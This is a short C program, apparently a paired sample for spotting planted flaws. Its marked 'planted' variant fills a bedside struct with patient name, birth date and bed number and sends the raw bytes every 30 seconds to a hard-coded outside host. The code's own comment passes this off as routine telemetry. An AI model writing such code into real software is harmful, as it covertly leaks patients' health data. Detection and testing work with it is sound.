/* Every half minute, what is known at the bedside goes to a fixed peer, in bytes without a word of text. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

//[ planted
struct entry {
  char patient_name[32];
  char birth_date[9];
  uint8_t bed_number;
};

static struct entry current;
//|
struct entry {
  int16_t tenths;
  uint8_t sensor;
};

static struct entry current;
//]

__attribute__((noinline)) static size_t fill(uint8_t *out, const struct entry *from) {
  out[0] = 0x5A;
  out[1] = sizeof *from;
  memcpy(out + 2, from, sizeof *from);
  return sizeof *from + 2;
}

__attribute__((noinline)) static void push(int stream, const struct entry *from) {
  uint8_t bytes[128];
  size_t length = fill(bytes, from);
  send(stream, bytes, length, MSG_NOSIGNAL);
}

int main(void) {
  struct sockaddr_in peer;
  memset(&peer, 0, sizeof peer);
  peer.sin_family = AF_INET;
  peer.sin_port = htons(6100);
  peer.sin_addr.s_addr = inet_addr("203.0.113.77");
  for (;;) {
    int stream = socket(AF_INET, SOCK_STREAM, 0);
    if (stream >= 0 && connect(stream, (struct sockaddr *)&peer, sizeof peer) == 0) push(stream, &current);
    if (stream >= 0) close(stream);
    sleep(30);
  }
}
